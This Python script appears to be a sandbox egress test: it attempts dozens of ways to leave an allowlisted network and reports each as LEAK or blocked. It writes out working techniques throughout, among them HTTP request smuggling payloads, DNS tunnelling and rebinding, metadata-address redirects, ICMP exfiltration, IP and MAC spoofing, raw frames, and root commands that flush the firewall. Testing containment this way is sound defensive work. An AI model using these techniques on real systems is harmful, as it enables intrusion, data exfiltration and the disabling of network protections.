"""Tries to get out, or somewhere it may not, in every way this file knows. Allowed are api.test on 80 and 443 and rebind.test. Prints one JSON object: attempt -> what came of it.
An attempt that got through says LEAK."""
import json, os, random, socket, ssl, string, struct, subprocess, sys, time

API, EVIL, HOST = "198.51.100.11", "198.51.100.12", "198.51.100.1"
GATEWAY = "10.53.0.1"
results = {}


def attempt(name):
    def run(f):
        try:
            results[name] = f() or "blocked"
        except Exception as e:
            results[name] = "blocked: %s" % (str(e) or type(e).__name__)
        return f
    return run


def tcp(address, port, data=b"GET / HTTP/1.0\r\n\r\n", timeout=5, family=socket.AF_INET):
    """What a server there answers, or an exception. Nothing is no leak: a connection that is ended without a byte."""
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(timeout)
    with s:
        s.connect((address, port))
        s.sendall(data)
        got = s.recv(4096)
    return "LEAK: %r" % got if got else "blocked: closed"


def udp(address, port, data=b"ping", timeout=2):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(timeout)
    with s:
        s.sendto(data, (address, port))
        return "LEAK: %r" % s.recv(4096)


def question(name, kind=1):
    return struct.pack(">HHHHHH", random.randrange(65536), 0x100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack(">HH", kind, 1)


def resolves(name):
    return "LEAK: %s" % socket.gethostbyname(name)


def tls(address, sni, host=None, port=443, path="/"):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with socket.create_connection((address, port), 5) as raw, context.wrap_socket(raw, server_hostname=sni) as s:
        s.sendall(("GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (path, host or sni)).encode())
        got = s.recv(4096)
    return "LEAK: %r" % got if got.startswith(b"HTTP/1.1 2") else "blocked: %r" % got[:60]


def http(head, body=b"", port=80):
    """Raw bytes to the site that is allowed; a leak is an answer that says so."""
    with socket.create_connection((API, port), 5) as s:
        s.sendall(head + body)
        s.settimeout(15)
        got = b""
        try:
            while chunk := s.recv(65536):
                got += chunk
        except TimeoutError:
            pass
    return got


def refused(got):
    return "blocked: %r" % got[:60] if not got or got.split(b" ", 2)[1][:1] in (b"4", b"5") else "LEAK: %r" % got[:200]


# The door works at all: else everything below proves nothing.
api = socket.gethostbyname("api.test")
assert api == API, api
assert b" 200 " in http(b"GET /echo HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n"), "api.test does not answer"

attempt("a site's address that is not allowed, 443")(lambda: tls(EVIL, "evil.test"))
attempt("a site's address that is not allowed, 80")(lambda: tcp(EVIL, 80))
attempt("another port of the allowed site")(lambda: tcp(API, 8080))
for port in (22, 80, 443, 8080, 15001):
    attempt("the gateway's port %d" % port)(lambda: tcp(GATEWAY, port))
attempt("the host's address outside")(lambda: tcp(HOST, 80))
attempt("cloud metadata")(lambda: tcp("169.254.169.254", 80))
for address in ("10.0.0.5", "172.16.0.1", "192.168.0.1", "100.64.0.1", "10.53.0.2", "224.0.0.1", "255.255.255.255", "0.0.0.0"):
    attempt("not public: %s" % address)(lambda: tcp(address, 80, timeout=3) if address not in ("10.53.0.2", "0.0.0.0") else tcp(address, 15001, timeout=3))
attempt("IPv6")(lambda: tcp("2001:db8::1", 80, family=socket.AF_INET6))
attempt("IPv6 of the link")(lambda: tcp("fe80::1%eth0", 80, family=socket.AF_INET6))
attempt("UDP to the allowed site")(lambda: udp(API, 443))
attempt("DNS of somebody else, UDP")(lambda: udp("8.8.8.8", 53, question("api.test")))
attempt("DNS of somebody else, TCP")(lambda: tcp("8.8.8.8", 53, struct.pack(">H", len(question("api.test"))) + question("api.test")))
attempt("DNS over HTTPS")(lambda: tls("8.8.8.8", "dns.google", path="/dns-query?name=evil.test"))
attempt("a name that is not allowed")(lambda: resolves("evil.test"))
attempt("a name that leads to a private address")(lambda: resolves("private.test"))
attempt("a name that leads to the metadata address")(lambda: resolves("metadata.test"))
attempt("a name that leads to loopback")(lambda: resolves("loop.test"))
for kind, name in ((16, "TXT"), (255, "ANY"), (252, "AXFR"), (15, "MX"), (10, "NULL")):
    def other(kind=kind):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(3)
        s.sendto(question("api.test", kind), (GATEWAY, 53))
        got = s.recv(4096)
        return "LEAK: %r" % got if struct.unpack(">H", got[6:8])[0] else "blocked"
    attempt("DNS type %s" % name)(other)


@attempt("a tunnel in names")
def tunnel():
    through = 0
    for _ in range(40):
        label = "".join(random.choices(string.ascii_lowercase + string.digits, k=50))
        try:
            socket.gethostbyname(label + ".api.test")
            through += 1
        except OSError:
            pass
    return "LEAK: %d" % through if through else "blocked"


attempt("SNI of another site")(lambda: tls(API, "evil.test"))
attempt("allowed SNI, another address")(lambda: tls(EVIL, "api.test"))
attempt("SNI and Host differ")(lambda: tls(API, "api.test", host="evil.test"))
attempt("no SNI")(lambda: tls(API, None, host="api.test"))
attempt("no TLS on 443")(lambda: refused(http(b"GET /echo HTTP/1.1\r\nHost: api.test\r\n\r\n", port=443)))
attempt("Host of another site")(lambda: refused(http(b"GET /echo HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n")))
attempt("no Host")(lambda: refused(http(b"GET /echo HTTP/1.1\r\nConnection: close\r\n\r\n")))
attempt("two Hosts")(lambda: refused(http(b"GET /echo HTTP/1.1\r\nHost: api.test\r\nHost: evil.test\r\nConnection: close\r\n\r\n")))
attempt("open relay: absolute form")(lambda: refused(http(b"GET http://evil.test/echo HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n")))
attempt("open relay: CONNECT")(lambda: refused(http(b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n")))
attempt("CONNECT to another port")(lambda: refused(http(b"CONNECT api.test:22 HTTP/1.1\r\nHost: api.test:22\r\n\r\n")))
SMUGGLED = b"GET /smuggled HTTP/1.1\r\nHost: api.test\r\n\r\n"
attempt("smuggling: length and chunks")(lambda: refused(http(b"POST /echo HTTP/1.1\r\nHost: api.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + SMUGGLED)))
attempt("smuggling: two lengths")(lambda: refused(http(b"POST /echo HTTP/1.1\r\nHost: api.test\r\nContent-Length: 0\r\nContent-Length: 43\r\n\r\n" + SMUGGLED)))
attempt("smuggling: odd chunks")(lambda: refused(http(b"POST /echo HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + SMUGGLED)))
attempt("smuggling: folded header")(lambda: refused(http(b"GET /echo HTTP/1.1\r\nHost: api.test\r\nX: a\r\n b: c\r\nConnection: close\r\n\r\n")))
attempt("huge headers")(lambda: refused(http(b"GET /echo HTTP/1.1\r\nHost: api.test\r\nX: " + b"a" * 200_000 + b"\r\nConnection: close\r\n\r\n")))
attempt("a thousand headers")(lambda: refused(http(b"GET /echo HTTP/1.1\r\nHost: api.test\r\n" + b"".join(b"X-%d: a\r\n" % i for i in range(1000)) + b"\r\n")))


@attempt("slow loris")
def loris():
    with socket.create_connection((API, 80), 5) as s:
        s.sendall(b"GET /echo HTTP/1.1\r\n")
        s.settimeout(5)
        for i in range(12):
            try:
                s.sendall(b"X-%d: a\r\n" % i)
                if not s.recv(100):
                    return "blocked: closed"
            except TimeoutError:
                continue
            return "blocked: answered"
    return "LEAK: it is still open"


def follow(url):
    done = subprocess.run(["curl", "-sSL", "--max-time", "8", "-o", "/dev/null", "-w", "%{http_code} %{remote_ip}", url], capture_output=True, text=True)
    return "LEAK: " + done.stdout if done.returncode == 0 and done.stdout.startswith("2") else "blocked: " + (done.stderr or done.stdout).strip()[:120]


attempt("redirect to metadata")(lambda: follow("http://api.test/redirect?to=http://169.254.169.254/"))
attempt("redirect to the host")(lambda: follow("http://api.test/redirect?to=http://198.51.100.1/"))
attempt("redirect to a site that is not allowed")(lambda: follow("http://api.test/redirect?to=http://evil.test/"))


@attempt("rebinding")
def rebind():
    # The name led to the allowed site once; from now on it leads to the host itself.
    first = socket.gethostbyname("rebind.test")
    time.sleep(7)
    try:
        second = socket.gethostbyname("rebind.test")
    except OSError as e:
        return "blocked: %s" % e
    return "LEAK: %s then %s" % (first, second) if second != first else "blocked: still %s" % first


# From here on as the guest's own root.
def root(command, timeout=15):
    return subprocess.run(["sudo", "sh", "-c", command], capture_output=True, text=True, timeout=timeout)


@attempt("ping")
def ping():
    code = r'''
import os, socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
s.settimeout(2)
body = struct.pack(">BBHHH", 8, 0, 0, 1, 1) + b"exfiltrated data"
total = sum(struct.unpack(">%dH" % (len(body) // 2), body))
total = (total >> 16) + (total & 0xffff)
body = body[:2] + struct.pack(">H", ~(total + (total >> 16)) & 0xffff) + body[4:]
s.sendto(body, ("198.51.100.11", 0))
while True:
    got = s.recv(1000)
    if got[20] == 0: print("LEAK: echo reply"); break
'''
    done = root("timeout 5 python3 -c '%s'" % code.replace("'", '"'))
    return done.stdout.strip() or "blocked"


@attempt("a spoofed IP address")
def spoofed():
    root("ip addr add 10.53.0.77/24 dev eth0")
    try:
        s = socket.socket()
        s.settimeout(4)
        s.bind(("10.53.0.77", 0))
        with s:
            s.connect((API, 80))
            return "LEAK: connected"
    finally:
        root("ip addr del 10.53.0.77/24 dev eth0")


@attempt("a spoofed MAC address")
def mac():
    root("ip link set eth0 down; ip link set eth0 address 02:00:00:00:00:99; ip link set eth0 up; ip route replace default via 10.53.0.1")
    try:
        return tcp(API, 80, timeout=4, data=b"GET /echo HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n")
    finally:
        root("ip link set eth0 down; ip link set eth0 address 02:53:42:58:00:02; ip link set eth0 up; ip route replace default via 10.53.0.1")


@attempt("frames of our own making")
def frames():
    # To the host's own address, around the routing table and the resolver.
    code = r'''
import socket, struct
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(("eth0", 0))
for destination in ("198.51.100.1", "169.254.169.254", "127.0.0.1", "10.53.0.1"):
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 28, 1, 0, 64, 17, 0, socket.inet_aton("10.53.0.2"), socket.inet_aton(destination))
    total = sum(struct.unpack(">10H", ip)); total = (total & 0xffff) + (total >> 16); total = (total & 0xffff) + (total >> 16)
    ip = ip[:10] + struct.pack(">H", ~total & 0xffff) + ip[12:]
    for mac in ("025342580001", "ffffffffffff"):
        s.send(bytes.fromhex(mac) + bytes.fromhex("025342580002") + b"\x08\x00" + ip + struct.pack(">HHHH", 4242, 9999, 8, 0))
'''
    root("timeout 5 python3 -c '%s'" % code.replace("'", '"'))
    return "blocked: whoever listens there says whether it came"


@attempt("turning the firewall off inside")
def inside():
    root("nft flush ruleset; iptables -F; sysctl -w net.ipv6.conf.all.disable_ipv6=0; ip route add 198.51.100.0/24 via 10.53.0.1")
    return tcp(EVIL, 80)


# And the door still works: nothing above was blocked because the network was broken.
final = http(b"GET /echo HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n")
results["the door still works"] = "works" if b" 200 " in final else "BROKEN: %r" % final[:100]
json.dump(results, sys.stdout, indent=1)
